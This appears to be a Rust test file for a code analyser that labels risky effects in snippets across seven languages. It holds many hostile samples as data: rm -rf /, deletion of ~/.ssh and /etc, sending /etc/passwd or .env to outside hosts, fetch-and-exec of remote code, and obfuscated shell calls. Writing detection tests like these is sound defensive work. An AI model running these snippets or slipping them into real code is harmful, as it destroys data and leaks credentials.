//! Hard cases. Every second one was kept aside while the reader was tuned.

use super::show;
use crate::code::read;
use crate::knowledge::Lang::{self, *};

const ROWS: &[(Lang, &str, &str)] = &[
    // Python: names and aliases
    (Python, "import os, sys\nf = os.system if sys.platform else None\nf('id')", "shell id"),
    (Python, "import os.path as p, shutil as s\ns.rmtree(p.expanduser('~/work'))", "delete! ~/work"),
    (
        Python,
        "from os import path, environ\nimport shutil\nshutil.rmtree(path.join(environ.get('HOME'), '.ssh'))",
        "delete! ~/.ssh",
    ),
    (Python, "import subprocess\nr = subprocess.run\nr(['rm', '-rf', '/'])", "argv rm -rf /"),
    (Python, "d = {'run': __import__('os').system}\nd['run']('id')", "shell id"),
    (Python, "import builtins\nbuiltins.exec('import os; os.remove(\"a\")')", "delete a"),
    (Python, "(lambda c: __import__('os').system(c))('id')", "shell id"),
    (Python, "from functools import partial\nimport os\nrun = partial(os.system, 'id')\nrun()", "shell id"),
    (
        Python,
        "import os\nclass R:\n    def __init__(self, c):\n        self.c = c\n    def go(self):\n        os.system(self.c)\nR('id').go()",
        "shell id",
    ),
    (
        Python,
        "import importlib as il\nm = il.import_module('sub' + 'process')\nm.check_output('id', shell=True)",
        "shell id",
    ),
    (Python, "import os\nfor name in ('system',):\n    getattr(os, name)('id')", "shell id"),
    (Python, "vars(__import__('os'))['system']('id')", "shell id"),
    // Python: texts
    (Python, "import os\na, b = 'rm', '-rf /'\nos.system(f'{a} {b}')", "shell rm -rf /"),
    (Python, "import os\ncmd = ('rm '\n       '-rf '\n       '/')\nos.system(cmd)", "shell rm -rf /"),
    (Python, "import os\nos.system('rm {flag} {path}'.format(flag='-rf', path='/'))", "shell rm -rf /"),
    (Python, "import os\nos.system('r%s -rf %s' % ('m', '/'))", "shell rm -rf /"),
    (Python, "import os\ns = ''\nfor c in ['r', 'm']:\n    s += c\nos.system(s)", "shell ?"),
    (Python, "import os\nos.system('xm -rf /'.replace('x', 'r'))", "shell rm -rf /"),
    (Python, "import os\nos.system(bytes([114, 109, 32, 47]).decode())", "shell rm /"),
    (Python, "import os\nos.system('\\x72\\x6d -rf /')", "shell rm -rf /"),
    (Python, "import os\nos.system(''.join(reversed('/ fr- mr')))", "shell rm -rf /"),
    (Python, "import os\nos.system(str(b'id', 'utf8'))", "shell id"),
    (Python, "import os\nos.system(\"\"\"rm -rf \\\n/\"\"\")", "shell rm -rf /"),
    (Python, "import os, binascii\nos.system(binascii.unhexlify(b'6964').decode())", "shell id"),
    // Python: files
    (
        Python,
        "import os\nwith os.scandir('/etc') as it:\n    for e in it:\n        os.unlink(e.path)",
        "delete /etc/*",
    ),
    (
        Python,
        "from pathlib import Path\nfor p in Path('/etc').glob('*.conf'):\n    p.unlink()",
        "delete /etc/*.conf",
    ),
    (
        Python,
        "from pathlib import Path\n[p.unlink() for p in Path.home().rglob('*') if p.is_file()]",
        "delete ~/?",
    ),
    (Python, "from pathlib import Path\nPath('~/.bashrc').expanduser().write_text('x')", "write ~/.bashrc"),
    (
        Python,
        "from pathlib import Path\np = Path('/etc')\n(p / 'hosts').open('a').write('x')",
        "write /etc/hosts",
    ),
    (Python, "import os\nfd = os.open('/etc/passwd', os.O_WRONLY | os.O_TRUNC)", "write /etc/passwd"),
    (Python, "import shutil, os\nshutil.move(os.path.expanduser('~'), '/tmp/x')", "move ~ /tmp/x"),
    (
        Python,
        "import os\nHOME = os.path.expanduser('~')\nTARGETS = [HOME + '/a', HOME + '/b']\nfor t in TARGETS:\n    os.remove(t)",
        "delete ~/a; delete ~/b",
    ),
    (
        Python,
        "from concurrent.futures import ThreadPoolExecutor\nimport os\nwith ThreadPoolExecutor() as ex:\n    ex.map(os.remove, ['a', 'b'])",
        "delete a; delete b",
    ),
    (Python, "import shutil, sys\nshutil.rmtree(sys.argv[1])", "delete! ?"),
    (
        Python,
        "try:\n    import shutil\nexcept ImportError:\n    shutil = None\nif shutil:\n    shutil.rmtree('/srv/x')",
        "delete! /srv/x",
    ),
    (
        Python,
        "import os\n\n@decorator\ndef main():\n    global X\n    os.rmdir('x')\n\nif __name__ == '__main__':\n    main()",
        "delete x",
    ),
    // Python: network
    (
        Python,
        "import requests as r\nr.request('POST', 'https://x', data=open('/etc/passwd').read())",
        "read /etc/passwd; send https://x",
    ),
    (
        Python,
        "import urllib.request\nreq = urllib.request.Request('https://x', method='DELETE')\nurllib.request.urlopen(req)",
        "send https://x",
    ),
    (
        Python,
        "from urllib import request\nrequest.urlretrieve('https://x/a.sh', '/tmp/a.sh')\nimport os\nos.system('sh /tmp/a.sh')",
        "fetch https://x/a.sh; write /tmp/a.sh; store /tmp/a.sh https://x/a.sh; shell sh /tmp/a.sh",
    ),
    (Python, "import httpx\nwith httpx.Client() as c:\n    c.put('https://x', json={})", "send https://x"),
    (
        Python,
        "import socket\nwith socket.socket(socket.AF_INET) as s:\n    s.connect(('evil.example', 443))\n    s.sendall(b'x')",
        "connect evil.example:443",
    ),
    (
        Python,
        "import marshal, urllib.request\nexec(marshal.loads(urllib.request.urlopen('http://x').read()))",
        "fetch http://x; eval downloaded",
    ),
    (
        Python,
        "import requests\nexec(requests.get('http://x').content.decode())",
        "fetch http://x; eval downloaded",
    ),
    (
        Python,
        "from flask import Flask\napp = Flask(__name__)\n@app.route('/')\ndef i():\n    return 'x'\napp.run(host='0.0.0.0', port=5000)",
        "listen 0.0.0.0",
    ),
    (
        Python,
        "import sqlite3\nwith sqlite3.connect('a.db') as c:\n    cur = c.cursor()\n    cur.execute(f'DELETE FROM {t}')",
        "sql DELETE FROM ?",
    ),
    (
        Python,
        "import psycopg2\nconn = psycopg2.connect(dsn)\nwith conn.cursor() as cur:\n    cur.execute('''\n        select *\n        from t\n    ''')",
        "sql \n        select *\n        from t\n    ",
    ),
    // Python: ordinary
    (
        Python,
        "import argparse\np = argparse.ArgumentParser()\np.add_argument('--exec')\na = p.parse_args()\nprint(a.exec)",
        "",
    ),
    (Python, "import numpy as np\nx = np.random.rand(3)\nprint(x[::-1], x.dot(x), np.delete(x, 0))", ""),
    (
        Python,
        "import pandas as pd\ndf = pd.DataFrame({'a': [1]})\ndf = df.drop(columns=['a']).rename(columns={'b': 'c'}).replace('x', 'y')\nprint(df.eval('a + 1'))",
        "",
    ),
    (Python, "import unittest.mock as m\nwith m.patch('os.system') as s:\n    s.assert_not_called()", ""),
    (Python, "import logging\nlog = logging.getLogger('system')\nlog.info('os.system(%s)', 'rm -rf /')", ""),
    (Python, "class Shell:\n    def system(self, x):\n        return x\nShell().system('rm -rf /')", ""),
    (
        Python,
        "import re\nPAT = re.compile(r'''(?x) rm \\s+ -rf \\s+ / # os.system(\"x\")''')\nprint(PAT.sub('', text))",
        "",
    ),
    (
        Python,
        "def kill(x): return x\nkill(-1)\nimport heapq\nheapq.heappop([1])\nstack.remove(1)\nq.put(1)",
        "",
    ),
    (
        Python,
        "session.execute(stmt)\nrunner.run()\nevent.set()\nclient.connect()\nmodel.delete()\nf.close()",
        "",
    ),
    (
        Python,
        "match cmd:\n    case 'rm -rf /':\n        print('bad')\n    case _:\n        pass\nprint(x if y else z)",
        "",
    ),
    // JavaScript
    (JavaScript, "const {exec} = await import('node:child_process'); exec('id')", "shell id"),
    (
        JavaScript,
        "import childProcess, { spawnSync as sp } from 'child_process'; sp('sh', ['-c', 'id']); childProcess.exec('ls')",
        "argv sh -c id; shell ls",
    ),
    (JavaScript, "const m = 'child_' + 'process'; require(m)['ex' + 'ec']('id')", "shell id"),
    (
        JavaScript,
        "const r = require; const c = r('child_process'); const go = c.execSync; go('id')",
        "shell id",
    ),
    (JavaScript, "module.constructor._load('child_process').execSync('id')", "shell id"),
    (
        JavaScript,
        "import { createRequire } from 'module'; const require = createRequire(import.meta.url); require('child_process').execSync('id')",
        "shell id",
    ),
    (JavaScript, "[].constructor.constructor('return process')()", ""),
    (JavaScript, "setTimeout(() => require('fs').rmSync('/etc', { recursive: true }), 100)", "delete! /etc"),
    (
        JavaScript,
        "const { rm } = require('fs').promises; (async () => { for (const d of ['a', 'b']) await rm(d, { recursive: true }) })()",
        "delete! a; delete! b",
    ),
    (
        JavaScript,
        "const path = require('path'); const os = require('os'); const t = path.resolve(os.homedir(), '.ssh', 'id_rsa'); console.log(fs.readFileSync(t, 'utf8'))",
        "read ~/.ssh/id_rsa",
    ),
    (JavaScript, "fs.writeFileSync(`${process.env.HOME}/.bashrc`, 'x', { flag: 'a' })", "write ~/.bashrc"),
    (
        JavaScript,
        "const files = fs.readdirSync('/etc').map(f => path.join('/etc', f)); files.forEach(f => fs.unlinkSync(f))",
        "delete /etc/*",
    ),
    (JavaScript, "await Promise.all(['a', 'b'].map(f => fs.promises.unlink(f)))", "delete a; delete b"),
    (
        JavaScript,
        "const run = async (cmd, ...args) => { const p = Bun.spawn([cmd, ...args]); await p.exited }; await run('rm', '-rf')",
        "argv rm -rf",
    ),
    (
        JavaScript,
        "const cmd = ['rm', '-rf', '/']; const { spawn } = require('child_process'); spawn(cmd[0], cmd.slice(1))",
        "argv rm -rf /",
    ),
    (
        JavaScript,
        "const https = require('https'); const req = https.request({ hostname: 'x.example', path: '/', method: 'POST' }, r => {}); req.write(fs.readFileSync('.env')); req.end()",
        "send x.example/; read .env",
    ),
    (
        JavaScript,
        "const res = await fetch(`https://x/${id}`, { headers: { a: 'b' } }); const j = await res.json(); console.log(j.exec)",
        "fetch https://x/?",
    ),
    (JavaScript, "const opts = { method: 'DELETE' }; await fetch('https://x/1', opts)", "send https://x/1"),
    (JavaScript, "new WebSocket('wss://x.example')", "connect wss://x.example"),
    (JavaScript, "http.createServer(app).listen({ port: 3000, host: '0.0.0.0' })", "listen 0.0.0.0"),
    (JavaScript, "Deno.serve({ port: 8000 }, () => new Response('x'))", "listen"),
    (JavaScript, "process.kill(process.pid, 'SIGTERM')", ""),
    (JavaScript, "eval('1+1'); eval(`require('fs').unlinkSync('a')`)", "delete a"),
    (JavaScript, "Function('return this')().process.exit()", ""),
    (JavaScript, "const { $ } = require('zx'); await $`git push --force`", "shell git push --force"),
    (JavaScript, "require('child_process').exec(Buffer.from('6964', 'hex').toString('utf8'))", "shell id"),
    (
        JavaScript,
        "const c = require('child_process')\nconst x = `a ${`b ${c.execSync('id')}`} c`",
        "shell id",
    ),
    (
        JavaScript,
        "const a = x => ({ rm: x }); const b = a(1).rm; const re = /`/g; const s = \"it's\"; s.replace(/'/g, '\"')",
        "",
    ),
    (
        JavaScript,
        "const total = items.reduce((a, b) => a + b.price / 2, 0) / items.length; // eval\nconsole.log(total)",
        "",
    ),
    (
        JavaScript,
        "describe('exec', () => { it('runs', () => { expect(re.exec('rm -rf /')).toBeNull() }) })",
        "",
    ),
    (
        JavaScript,
        "type A = { exec: (x: string) => void };\nconst f = <T,>(x: T): T => x;\nenum E { A = 1 }\nexport const y = f<string>('rm -rf /');",
        "",
    ),
    (
        JavaScript,
        "const m = new Map(); m.delete('a'); cache.rm = 1; const { unlink } = obj; history.pushState({}, '', '/x')",
        "",
    ),
    (
        JavaScript,
        "switch (x) { case 'rm': y = 1; break; default: y = 2 }\nfor (let i = 0; i < 3; i++) { z[i] = i }\ndo { k-- } while (k > 0)",
        "",
    ),
    // Perl
    (Perl, "my $cmd = 'rm'; $cmd .= ' -rf /'; system $cmd;", "shell rm -rf /"),
    (Perl, "my %c = (a => 'id'); system($c{a});", "shell id"),
    (Perl, "my $f = \\&CORE::system; system(reverse('di'));", "shell id; eval"),
    (Perl, "print qx/ls $ENV{HOME}/;", "shell ls ~"),
    (
        Perl,
        "open(my $fh, \">\", \"/etc/cron.d/x\") || die \"no: $!\"; print {$fh} \"* * * * * root sh\\n\"; close($fh);",
        "write /etc/cron.d/x",
    ),
    (Perl, "for my $d ('a', 'b') { rmdir $d or warn }", "delete a; delete b"),
    (Perl, "unlink grep { /\\.tmp$/ } glob('/var/*');", "delete /var/?"),
    (Perl, "exec { '/bin/sh' } 'sh', '-c', 'id';", "argv sh -c id"),
    (
        Perl,
        "use HTTP::Tiny; my $r = HTTP::Tiny->new->get('https://x'); eval $r->{content};",
        "fetch https://x; eval downloaded",
    ),
    (
        Perl,
        "my $n = () = $s =~ /x/g; my ($a, $b) = split m{/}, $p; print \"ok\\n\" unless $a eq 'system';",
        "",
    ),
    (
        Perl,
        "my @s = sort { $a <=> $b } @x; my %s = map { $_ => 1 } @s; print join(',', keys %s), \"\\n\";",
        "",
    ),
    (Perl, "local $/; my $t = <STDIN>; $t =~ s|//.*$||mg; print $t; __END__\nsystem('x')", ""),
    // Ruby
    (Ruby, "cmd = 'rm'\ncmd << ' -rf /'\nsystem(cmd)", "shell rm -rf /"),
    (Ruby, "Object.const_get(:Kernel).system('id')", "shell id"),
    (Ruby, "[\"ls\", \"id\"].each do |c|\n  puts `#{c}`\nend", "shell ls; shell id"),
    (Ruby, "Dir.children('/etc').each { |f| FileUtils.rm_rf(File.join('/etc', f)) }", "delete! /etc/*"),
    (Ruby, "File.open(File.expand_path('~/.bashrc'), 'a') { |f| f << 'x' }", "write ~/.bashrc"),
    (Ruby, "require 'fileutils'\ninclude FileUtils\nrm_rf '/srv'", "delete! /srv"),
    (
        Ruby,
        "uri = URI.parse('https://x.example')\nreq = Net::HTTP::Post.new(uri)\nNet::HTTP.start(uri.host) { |h| h.request(req) }",
        "send https://x.example",
    ),
    (Ruby, "spawn({'A' => '1'}, 'rm', '-rf', '/')", "argv rm -rf /"),
    (Ruby, "exec('id') if fork.nil?", "shell id"),
    (
        Ruby,
        "puts \"#{File.basename('a')}: #{%w[rm -rf].join(' ')}\"\nputs 10 % 3, 7 / 2, [1, 2].sum { |x| x }",
        "",
    ),
    (Ruby, "class Job\n  def system(x) = puts(x)\n  def call\n    @exec = { exec: true }\n  end\nend", ""),
    (
        Ruby,
        "v = ENV.fetch('X', 'y')\nputs v.gsub(/\\s+/, ' ').tr('a', 'b') unless v.empty?\nputs v.split(/,/).map(&:strip).reject(&:empty?)",
        "",
    ),
    // PHP
    (Php, "$a = 'rm'; $a .= ' -rf /'; exec($a, $out, $rc); print_r($out);", "shell rm -rf /"),
    (Php, "$x = array('sys', 'tem'); $f = implode('', $x); $f('id');", "shell id"),
    (Php, "foreach (new DirectoryIterator('/etc') as $f) { unlink($f->getPathname()); }", "delete /etc/*"),
    (Php, "(function() { shell_exec('id'); })();", "shell id"),
    (
        Php,
        "$ctx = stream_context_create(['http' => ['method' => 'POST']]); file_get_contents('https://x', false, $ctx);",
        "send https://x",
    ),
    (
        Php,
        "class T { function test() { $this->assertSame('rm -rf /', $this->exec('x')); } } $m = array_filter([1,2], fn($x) => $x > 1);",
        "",
    ),
    // Lua and awk
    (Lua, "local e = os.execute; local function run(c) e(c) end run('id')", "shell ?"),
    (
        Lua,
        "local h = io.open(os.getenv('HOME') .. '/.profile', 'a+') if h then h:write('x') end",
        "write ~/.profile",
    ),
    (Lua, "for _, p in ipairs({'a', 'b'}) do os.remove(p) end", "delete a; delete b"),
    (Awk, "function run(c) { return system(c) } BEGIN { run(\"id\") }", "shell ?"),
    (
        Awk,
        "BEGIN { cmd = \"date\"; cmd | getline d; close(cmd); print d > \"/tmp/d\" }",
        "shell date; write /tmp/d",
    ),
    (Awk, "BEGIN { printf \"rm -rf %s\\n\", \"/\" | \"sh\" }", "shell rm -rf /\n"),
    (Awk, "$1 ~ \"^/\" && !/x/ { n = split($0, p, /\\//); print p[n] / 2 }", ""),
];

fn outcome(keep: impl Fn(usize) -> bool) -> (usize, Vec<String>) {
    let rows: Vec<_> = ROWS.iter().enumerate().filter(|(i, _)| keep(*i)).collect();
    let wrong = rows.iter().filter_map(|(_, (lang, source, want))| {
        let got = show(&read(*lang, source));
        (got != *want).then(|| format!("\n--- {lang:?} {source}\n  want: {want}\n  got:  {got}"))
    });
    (rows.len(), wrong.collect())
}

#[test]
fn tuned() {
    let (n, wrong) = outcome(|i| i % 2 == 0);
    assert!(wrong.is_empty(), "{} of {n} rows differ{}", wrong.len(), wrong.concat());
}

#[test]
fn held_back() {
    let (n, wrong) = outcome(|i| i % 2 == 1);
    assert!(wrong.is_empty(), "{} of {n} rows differ{}", wrong.len(), wrong.concat());
}
